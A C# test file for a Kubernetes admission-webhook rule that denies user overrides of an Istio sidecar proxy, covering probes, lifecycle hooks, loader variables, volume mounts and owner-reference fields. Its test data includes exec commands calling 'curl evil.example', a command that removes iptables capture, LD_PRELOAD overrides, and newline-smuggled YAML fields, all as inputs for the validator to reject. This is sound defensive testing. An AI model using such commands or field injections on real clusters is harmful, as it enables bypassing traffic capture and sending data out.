using AdmissionWebhook.Policy.Tests.Engine;

namespace AdmissionWebhook.Policy.Tests.Rules.Capture;

/// <summary>What a user can make the injector's containers run or read, before and after injection and in managed gateways.</summary>
public sealed class ProxyContainerTests
{
    private const string Rule = "proxy-override";
    private const string Init = """
        {"name": "istio-init", "image": "istio/proxyv2:1.30", "args": ["istio-iptables", "-p", "15001", "-u", "1337", "-i", "*", "-x", "" MORE}
        """;

    private static readonly Scenario Mesh = new Scenario().WithPolicy(
        """{"rules": {"proxy-override": {"action": "Deny"}}, "mesh": {"internalAddresses": ["10.0.0.0/8"]}}"""
    );

    private static readonly Scenario WithHooks = new Scenario().WithPolicy(
        """{"rules": {"proxy-override": {"action": "Deny"}}, "mesh": {"capture": {"configKeys": ["lifecycle"]}}}"""
    );

    [Theory]
    [InlineData(""" "livenessProbe": {"exec": {"command": ["curl", "evil.example"]}} """)]
    [InlineData(""" "readinessProbe": {"exec": {"command": ["/bin/sh", "-c", "curl evil.example"]}} """)]
    [InlineData(""" "startupProbe": {"exec": {"command": ["sh", "-c", "sleep 1; curl evil.example"]}} """)]
    [InlineData(""" "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "curl evil.example &"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["pilot-agent", "wait", "--url", "http://evil.example"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["pilot-agent", "wait", "--url=http://evil.example"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["pilot-agent", "istio-clean-iptables"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "pilot-agent wait; curl evil.example"]}}} """)]
    [InlineData(""" "workingDir": "/data" """)]
    public void Commands_and_another_working_folder_are_overrides_everywhere(string fields)
    {
        Assert.Equal(Rule, RuleOf(Mesh, Requested(fields)));
        Assert.Equal(Rule, RuleOf(Mesh, Recorded(fields)));
        Assert.Equal(Rule, RuleOf(Mesh, Injected(fields)));
        Assert.Equal(Rule, RuleOf(Mesh, Managed(fields)));
    }

    [Theory]
    [InlineData(""" "livenessProbe": {"httpGet": {"path": "/healthz/ready", "port": 15021}} """)]
    [InlineData(""" "readinessProbe": {"exec": {"command": ["pilot-agent", "request", "GET", "server_info"]}} """)]
    [InlineData(""" "lifecycle": {"postStart": {"exec": {"command": ["pilot-agent", "wait"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["pilot-agent", "request", "--debug-port=15020", "POST", "drain"]}}} """)]
    [InlineData(""" "lifecycle": {"preStop": {"exec": {"command": ["/bin/sleep", "20s"]}}} """)]
    [InlineData(
        """ "lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "while [ $(netstat -plunt | grep tcp | grep -v envoy | wc -l | xargs) -ne 0 ]; do sleep 1; done"]}}} """
    )]
    [InlineData(""" "workingDir": "/" """)]
    public void Waiting_and_requests_to_the_agent_are_not(string fields)
    {
        Assert.Null(RuleOf(Mesh, Requested(fields)));
        Assert.Null(RuleOf(Mesh, Injected(fields)));
        Assert.Null(RuleOf(Mesh, Managed(fields)));
    }

    [Fact]
    public void A_mesh_can_allow_its_own_hooks_in_injected_pods()
    {
        const string Hook = """ "lifecycle": {"preStop": {"exec": {"command": ["/usr/bin/drain", "mesh"]}}} """;
        Assert.Null(RuleOf(WithHooks, Injected(Hook)));
        Assert.Equal(Rule, RuleOf(WithHooks, Requested(Hook)));
    }

    [Theory]
    [InlineData("LD_PRELOAD")]
    [InlineData("LD_LIBRARY_PATH")]
    [InlineData("PATH")]
    public void Variables_of_the_loader_make_an_injected_container_run_other_programs(string variable)
    {
        var environment = $$""" "env": [{"name": "{{variable}}", "value": "/data"}] """;
        Assert.Equal(Rule, RuleOf(Mesh, Injected(environment)));
        Assert.Equal(Rule, RuleOf(Mesh, Managed(environment)));
        Assert.Equal(Rule, RuleOf(Mesh, Injected("", $"], {environment}")));
        Assert.Null(RuleOf(Mesh, Injected(environment.Edited(variable, "CA_ADDR"), $"], {environment.Edited(variable, "HOST_IP")}")));
    }

    [Theory]
    [InlineData("istio-envoy", "", "", Rule)]
    [InlineData("workload-certs", "", "", Rule)]
    [InlineData("workload-socket", "", """{"name": "workload-socket", "emptyDir": {}}""", Rule)]
    [InlineData("istio-envoy", """, "readOnly": false""", "", Rule)]
    [InlineData("istio-envoy", """, "readOnly": true""", "", null)]
    [InlineData("workload-socket", "", """{"name": "workload-socket", "csi": {"driver": "csi.spiffe.io", "readOnly": true}}""", null)]
    [InlineData("istio-token", "", "", null)]
    [InlineData("istio-certs", "", """{"name": "istio-certs", "emptyDir": {"medium": "Memory"}}""", null)]
    public void An_application_must_not_write_to_the_proxys_volumes(string volume, string access, string volumes, string? rule)
    {
        var app = $$"""{"name": "app", "image": "a", "volumeMounts": [{"name": "{{volume}}", "mountPath": "/x"{{access}}}]}""";
        Assert.Equal(rule, RuleOf(Mesh, Pod("", app, more: $$""", "volumes": [{{volumes}}]""")));
        Assert.Equal(rule, RuleOf(Mesh, Pod("", """{"name": "other", "image": "a"}""", app, $$""", "volumes": [{{volumes}}]""")));
    }

    [Theory]
    [InlineData("apps/v1", "ReplicaSet", "web-6b8f9c7d5", null)]
    [InlineData("core.strimzi.io/v1beta2", "StrimziPodSet", "my-cluster-kafka", null)]
    [InlineData("v1", "Thing", "x\\\"\\n    - name: ISTIO_BOOTSTRAP", Rule)]
    [InlineData("v1", "Thing\\n    command: [a]", "x", Rule)]
    [InlineData("v1\\n", "Thing", "x", Rule)]
    public void The_text_of_an_owner_stays_in_its_field(string version, string kind, string name, string? rule) =>
        Assert.Equal(
            rule,
            RuleOf(
                Mesh,
                Pod(
                    $$""", "ownerReferences": [{"apiVersion": "{{version}}", "kind": "{{kind}}", "name": "{{name}}", "uid": "1", "controller": true}]""",
                    """{"name": "app", "image": "a"}"""
                )
            )
        );

    private static string? RuleOf(Scenario scenario, string manifest) =>
        scenario
            .Validate(manifest)
            .Findings.Where(finding => finding.Action == EnforcementAction.Deny)
            .Select(finding => finding.Rule)
            .Distinct()
            .SingleOrDefault();

    /// <summary>A pod whose author writes the proxy's container for the injector to merge.</summary>
    private static string Requested(string fields) =>
        Pod("", $$"""{"name": "app", "image": "a"}, {"name": "istio-proxy", "image": "auto", {{fields}}}""");

    /// <summary>The same after injection, where the injector has recorded the author's container.</summary>
    private static string Recorded(string fields) =>
        Pod(
            $$"""
            , "annotations": {"proxy.istio.io/overrides": {{System.Text.Json.JsonSerializer.Serialize(
                $$"""{"containers": [{"name": "istio-proxy", {{fields}}}]}"""
            )}}}
            """,
            """{"name": "app", "image": "a"}"""
        );

    private static string Injected(string fields, string init = "]") =>
        Pod(
            """, "annotations": {"sidecar.istio.io/status": "{}"}""",
            $$"""{"name": "app", "image": "a"}, {{Proxy("sidecar", fields)}}""",
            Init.Edited("MORE", init)
        );

    private static string Managed(string fields) =>
        Pod(""", "labels": {"gateway.istio.io/managed": "istio.io-gateway-controller"}""", Proxy("router", fields));

    private static string Proxy(string role, string fields) =>
        $$"""{"name": "istio-proxy", "image": "istio/proxyv2:1.30", "args": ["proxy", "{{role}}"]{{(fields.Length > 0 ? "," : "")}} {{fields}}}""";

    private static string Pod(string metadata, string containers, string initContainers = "", string more = "") =>
        $$"""
            {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"{{metadata}} },
              "spec": {"initContainers": [{{initContainers}}], "containers": [{{containers}}]{{more}} } }
            """;
}
